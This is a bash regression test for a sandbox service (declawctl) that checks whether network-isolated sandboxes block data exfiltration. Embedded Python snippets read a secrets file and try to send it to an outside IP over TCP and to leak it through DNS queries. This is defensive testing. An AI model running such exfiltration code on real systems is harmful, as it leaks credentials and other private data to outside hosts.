#!/usr/bin/env bash
# The scenario every change must keep working, with declawctl: a sandbox without internet access
# holds secrets in a file; code inside tries to send them out over TCP and DNS and is blocked;
# the file is still readable through the API. Exits non-zero if any step fails.
#
# Needs a running declawd (DECLAW_SOCKET or /run/declaw/declaw.sock) and declawctl on PATH.
set -uo pipefail

ctl=${DECLAWCTL:-declawctl}
failures=0
pass() { echo "[PASS] $*"; }
fail() { echo "[FAIL] $*"; failures=$((failures + 1)); }
banner() { printf '\n=== %s ===\n' "$*"; }

banner "1. Sandbox creation (allow_internet_access=false)"
sbx=$("$ctl" create --template python --timeout 120 --meta demo=exfiltration) || {
  echo "[FAIL] could not create a sandbox"; exit 1; }
pass "created $sbx"
trap '"$ctl" kill "$sbx" >/dev/null 2>&1' EXIT

banner "2. Writing secrets into the sandbox"
secrets=$'API_KEY=sk-secret-12345\nDB_PASSWORD=hunter2\n'
printf '%s' "$secrets" | "$ctl" cp - "$sbx:/tmp/secrets.txt" && pass "wrote /tmp/secrets.txt" \
  || fail "writing /tmp/secrets.txt"

banner "3. HTTP exfiltration over TCP (to 93.184.216.34:80)"
exfil_tcp=$(cat <<'PY'
import socket
data = open("/tmp/secrets.txt").read()
try:
    s = socket.create_connection(("93.184.216.34", 80), timeout=5)
    s.sendall(b"POST /collect HTTP/1.0\r\n\r\n" + data.encode())
    print("LEAKED: connection succeeded")
except OSError as e:
    print(f"BLOCKED: {type(e).__name__}: {e}")
PY
)
out=$("$ctl" exec "$sbx" -- python3 -c "$exfil_tcp" 2>&1)
echo "    $out"
[[ $out == BLOCKED:* ]] && pass "HTTP exfiltration blocked" || fail "HTTP exfiltration not blocked"

banner "4. DNS exfiltration (a UDP query to 8.8.8.8:53, and getaddrinfo)"
exfil_dns=$(cat <<'PY'
import socket
secret = open("/tmp/secrets.txt").read().split("\n")[0].split("=")[1]
results = []
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + bytes([len(secret)]) + secret.encode() + b"\x07example\x03com\x00\x00\x01\x00\x01", ("8.8.8.8", 53))
    results.append("LEAKED: udp query sent")
except OSError as e:
    results.append(f"BLOCKED udp: {e}")
try:
    socket.getaddrinfo(secret + ".example.com", 80)
    results.append("LEAKED: name resolved")
except OSError as e:
    results.append(f"BLOCKED getaddrinfo: {e}")
print("\n".join(results))
PY
)
out=$("$ctl" exec "$sbx" -- python3 -c "$exfil_dns" 2>&1)
echo "$out" | sed 's/^/    /'
if [[ $out != *LEAKED* ]] && [[ $(grep -c BLOCKED <<<"$out") == 2 ]]; then
  pass "DNS exfiltration blocked"
else
  fail "DNS exfiltration not blocked"
fi

banner "5. Local file read through the API still works"
content=$("$ctl" cp "$sbx:/tmp/secrets.txt" - && echo x)
content=${content%x}
[[ $content == "$secrets" ]] && pass "secrets.txt read back intact" || fail "secrets.txt differs"

banner "6. Cleanup"
"$ctl" kill "$sbx" && pass "sandbox killed" || fail "kill"
trap - EXIT
state=$("$ctl" --json info "$sbx" 2>/dev/null | python3 -c 'import json,sys; print(json.load(sys.stdin)["state"])')
[[ $state == killed ]] && pass "sandbox state is killed" || fail "sandbox state is '$state'"

echo
if [ "$failures" -eq 0 ]; then echo "ALL CHECKS PASSED"; else echo "$failures CHECK(S) FAILED"; fi
exit $((failures > 0))
